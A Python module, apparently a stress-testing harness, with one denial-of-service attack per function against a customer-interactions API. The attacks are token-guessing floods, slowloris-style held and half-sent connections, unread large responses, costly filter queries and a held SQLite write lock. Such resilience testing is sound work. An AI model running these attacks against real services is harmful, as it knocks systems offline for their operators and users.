"""What somebody does who wants the service to fail, one function a kind of attack, until told to stop."""

from __future__ import annotations

import contextlib
import itertools
import select
import socket
import sqlite3
import threading
import time
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field
from http.client import HTTPConnection, HTTPException
from pathlib import Path
from urllib.parse import quote

API = "/klantinteracties/api/v1"
BODIES, IDLE, UNREAD, GUESSERS, ASKERS, HEAVY = 6, 1024, 100, 60, 12, 10
PATIENCE = 60.0
# How soon a client comes back that was answered or refused.
PAUSE = 0.2
HEAVY_QUESTIONS = (
    "klantcontacten?inhoud=zzz",
    "klantcontacten?kanaal=zzz",
    f"partijen?correspondentieadres__icontains={'z' * 60_000}",
    "digitaleadressen?adres__icontains=zz",
    "partij-identificatoren?partijIdentificatorCodeSoortObjectId=bsn",
    "klantcontacten?onderwerp=zzz",
)


@dataclass
class Target:
    """A server under attack, and what an attacker has of it."""

    address: tuple[str, int]
    token: str
    write_token: str
    store: Path
    bsns: list[str]
    stop: threading.Event = field(default_factory=threading.Event)
    got: Counter[str] = field(default_factory=Counter)

    @property
    def host(self) -> str:
        """As a Host header has it."""
        return f"{self.address[0]}:{self.address[1]}"

    def count(self, what: object) -> None:
        """Count one answer, or what came instead of it."""
        self.got[str(what)] += 1

    def connect(self) -> socket.socket | None:
        """A connection; None, and counted, when there is none to be had."""
        try:
            return socket.create_connection(self.address, timeout=10)
        except OSError:
            self.count("no connection")
            return None

    def ask(self, path: str, token: str, seconds: float = PATIENCE) -> None:
        """Ask one question on a connection of its own, and count its status."""
        connection = HTTPConnection(*self.address, timeout=seconds)
        try:
            connection.request("GET", path, headers={"Authorization": f"Token {token}"})
            answer = connection.getresponse()
            answer.read()
            self.count(answer.status)
        except (OSError, HTTPException) as error:
            self.count(type(error).__name__)
        finally:
            connection.close()


Attack = Callable[[Target], None]


def _together(target: Target, each: Callable[[int], None], many: int, pause: float = PAUSE) -> None:
    """So many threads that do this again and again until the end, each with a pause between."""

    def go_on(number: int) -> None:
        while not target.stop.wait(pause):
            each(number)

    threads = [threading.Thread(target=go_on, args=(number,), daemon=True) for number in range(many)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(PATIENCE + 10)


def wrong_tokens(target: Target) -> None:
    """Guesses, two and a half a second."""
    while not target.stop.wait(0.4):
        threading.Thread(
            target=target.ask, args=(f"{API}/partijen", f"guess{time.time_ns()}"), daemon=True
        ).start()


def many_wrong_tokens(target: Target) -> None:
    """Guesses on 60 connections, as fast as they are refused."""
    _together(target, lambda number: target.ask(f"{API}/partijen", f"guess{number}"), GUESSERS, pause=0)


def _held(target: Target, many: int, beginning: bytes) -> None:
    """Keep so many connections that have sent only this; a closed one is opened again."""
    held: list[socket.socket] = []
    try:
        while not target.stop.wait(0.2):
            closed, _, _ = select.select(held, (), (), 0) if len(held) < 900 else ([], (), ())
            for one in closed:
                with contextlib.suppress(OSError):
                    said = one.recv(64)
                    target.count(said[9:12].decode("latin-1") if said else "closed")
                one.close()
                held.remove(one)
            while len(held) < many and not target.stop.is_set():
                one = target.connect()
                if one is None:
                    break
                with contextlib.suppress(OSError):
                    one.sendall(beginning)
                held.append(one)
    finally:
        target.got["held at the end"] = len(held)
        for one in held:
            one.close()


def bodies_that_never_come(target: Target) -> None:
    """POSTs with a valid token that promise a body."""
    lines = [
        f"POST {API}/klantcontacten HTTP/1.1",
        f"Host: {target.host}",
        f"Authorization: Token {target.write_token}",
        "Content-Type: application/json",
        "Content-Length: 500",
    ]
    _held(target, BODIES, ("\r\n".join(lines) + '\r\n\r\n{"kanaal":').encode("ascii"))


def idle_connections(target: Target) -> None:
    """Connections that say nothing."""
    _held(target, IDLE, b"")


def half_headers(target: Target) -> None:
    """Requests of which the head never ends."""
    _held(target, BODIES * 10, f"GET {API}/partijen HTTP/1.1\r\nHost: {target.host}\r\nX-A: ".encode("ascii"))


def unread_answers(target: Target) -> None:
    """Large answers that nobody reads."""
    line = f"GET {API}/klantcontacten?pageSize=500&expand=hadBetrokkenen,hadBetrokkenen.wasPartij HTTP/1.1"
    lines = [line, f"Host: {target.host}", f"Authorization: Token {target.token}"]
    held = []
    for _ in range(UNREAD):
        one = target.connect()
        if one is None:
            continue
        one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        one.sendall(("\r\n".join(lines) + "\r\n\r\n").encode("ascii"))
        held.append(one)
        if target.stop.wait(0.05):
            break
    target.stop.wait()
    for one in held:
        one.close()


def slow_source(target: Target) -> None:
    """Persons whom the store does not know, asked for by twelve clients while the source is what it is."""
    fresh = itertools.count()
    start = "partijIdentificator__"

    def one(_: int) -> None:
        bsn = target.bsns[next(fresh) % len(target.bsns)]
        target.ask(f"{API}/partijen?{start}codeSoortObjectId=bsn&{start}objectId={bsn}", target.token)

    _together(target, one, ASKERS)


def heavy_filters(target: Target) -> None:
    """Questions that few indexes answer: half of them dropped by their client, half waited for."""

    def one(number: int) -> None:
        question = HEAVY_QUESTIONS[number % len(HEAVY_QUESTIONS)]
        path, _, query = question.partition("?")
        drops = number % 2 == 0
        target.ask(
            f"{API}/{path}?{quote(query, safe='=&_')}", target.token, seconds=0.3 if drops else PATIENCE
        )

    _together(target, one, HEAVY)


def held_lock(target: Target) -> None:
    """Another process that holds the store's write lock, and clients that write."""
    body = (
        '{"kanaal": "telefoon", "onderwerp": "Een vraag", "inhoud": "", "taal": "nld", "vertrouwelijk": false,'
        ' "indicatieContactGelukt": true, "plaatsgevondenOp": "2026-11-01T12:00:00Z"}'
    )
    headers = {"Authorization": f"Token {target.write_token}", "Content-Type": "application/json"}

    def write(_: int) -> None:
        connection = HTTPConnection(*target.address, timeout=PATIENCE)
        try:
            connection.request("POST", f"{API}/klantcontacten", body, headers)
            answer = connection.getresponse()
            answer.read()
            target.count(answer.status)
        except (OSError, HTTPException) as error:
            target.count(type(error).__name__)
        finally:
            connection.close()

    holder = sqlite3.connect(target.store, isolation_level=None, timeout=30)
    try:
        holder.execute("BEGIN IMMEDIATE")
        _together(target, write, ASKERS)
    finally:
        holder.rollback()
        holder.close()
